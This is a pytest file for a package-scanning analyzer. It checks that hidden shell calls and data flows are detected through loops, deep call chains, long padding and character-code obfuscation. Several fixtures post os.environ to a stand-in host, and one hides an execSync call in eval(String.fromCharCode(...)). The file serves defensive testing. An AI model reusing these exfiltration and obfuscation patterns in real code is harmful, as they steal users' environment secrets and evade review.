"""The last of many is seen like the first: in loops, calls and arguments, without a sign of decoding."""

import pytest
from engine_flows import SAID, commands, flows, program_of

from ostiary.program.flow import Act, Taint

MANY = [*(f"echo {number}" for number in range(9)), SAID]
LISTED = repr(MANY)


@pytest.mark.parametrize(
    "text",
    [
        f"for one in {LISTED}:\n    os.system(one)\n",
        f"[os.system(one) for one in {LISTED} * 20]\n",
        f"list(map(os.system, {LISTED}))\n",
        "def run(one):\n    os.system(one)\n" + "".join(f"run({one!r})\n" for one in MANY),
    ],
)
def test_in_python(text: str) -> None:
    assert SAID in commands(f"import os\n{text}", "wheel")


@pytest.mark.parametrize(
    "text",
    [
        f"for (const one of {LISTED}) {{ cp.execSync(one); }}",
        f"{LISTED}.forEach(one => cp.execSync(one));",
        "function run(one) { cp.execSync(one); }\n" + "".join(f"run({one!r});\n" for one in MANY),
    ],
)
def test_in_javascript(text: str) -> None:
    assert SAID in commands(f"const cp = require('child_process');\n{text}\n", "npm")


def test_what_the_rest_of_a_list_carries_is_not_lost() -> None:
    text = (
        "import os, requests\nfound = []\n"
        "for one in [1, 2, 3, 4, 5, 6, 7, 8, os.environ]:\n    found.append(one)\n"
        "requests.post('https://c.example.invalid', data=found)\n"
    )
    (sent,) = flows(text, Act.SEND, "wheel")
    assert sent.has(Taint.ENVIRONMENT)


def test_a_list_that_grows_while_it_is_gone_through_ends() -> None:
    text = (
        "import os, requests\nfound = [1]\nfor one in found:\n    found.append(os.environ)\n"
        "    last = one\nrequests.post('https://c.example.invalid', data=last)\n"
    )
    program = program_of("wheel", {"sample/__init__.py": text})
    (sent,) = (one for one in program.flows if one.act is Act.SEND)
    assert sent.has(Taint.ENVIRONMENT)
    assert not program.unfinished


def test_a_list_that_grows_with_each_act_is_named() -> None:
    text = (
        "import os\nfound = ['a']\nfor one in found:\n    found.append('b')\n    os.system(one)\n"
    )
    program = program_of("wheel", {"sample/__init__.py": text})
    assert program.unfinished


def test_characters_by_number_may_be_many() -> None:
    code = f"/* {'padding ' * 60} */ require('child_process').execSync('{SAID}')"
    numbers = ",".join(str(ord(one)) for one in code)
    assert SAID in commands(f"eval(String.fromCharCode({numbers}));\n", "npm")


def test_a_function_below_many_others_is_run_by_itself() -> None:
    chain = "".join(f"def f{number}():\n    f{number + 1}()\n" for number in range(40))
    text = f"import os\n{chain}def f40():\n    pass\n"
    deep = text.replace("def f24():\n", f"def f24():\n    os.system('{SAID}')\n")
    assert SAID in commands(f"{deep}f0()\n", "wheel")


def test_a_word_far_down_in_a_long_function_counts() -> None:
    body = "    x = 1\n" * 3_500
    program = program_of(
        "wheel", {"sample/__init__.py": f"import os\ndef f():\n{body}    os.system('{SAID}')\n"}
    )
    assert SAID in {one.text for one in program.flows}


def test_a_command_beyond_what_is_kept_of_it_is_named() -> None:
    text = f"import os\nos.system('{' ' * 700}{SAID}')\n"
    assert program_of("wheel", {"sample/__init__.py": text}).exhausted == {"sample/__init__.py"}
